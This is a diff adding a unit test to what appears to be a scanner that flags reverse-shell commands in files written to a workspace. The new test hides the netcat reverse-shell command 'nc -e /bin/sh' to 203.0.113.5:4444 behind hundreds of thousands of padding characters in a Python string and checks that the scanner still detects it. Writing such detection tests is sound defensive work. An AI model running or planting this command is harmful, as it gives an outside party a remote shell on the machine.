@@ -129,4 +129,11 @@ class WrittenFilesTest {
                 .contains("reverse-shell.socat-exec");
         assertThat(rules("/workspace/run_tests.py", "import subprocess\nsubprocess.run([\"pytest\", \"-q\"], check=True)\n")).isEmpty();
     }
+
+    @Test
+    void aLongLiteralBeforeTheCommandCostsNoStackAndHidesNothing() {
+        String padding = "\\n".repeat(200_000) + "x".repeat(300_000);
+        String script = "import os\nBLOB = \"" + padding + "\"\nos.system('nc -e /bin/sh 203.0.113.5 4444')\n";
+        assertThat(rules("/workspace/blob.py", script)).contains("reverse-shell.netcat-exec");
+    }
 }
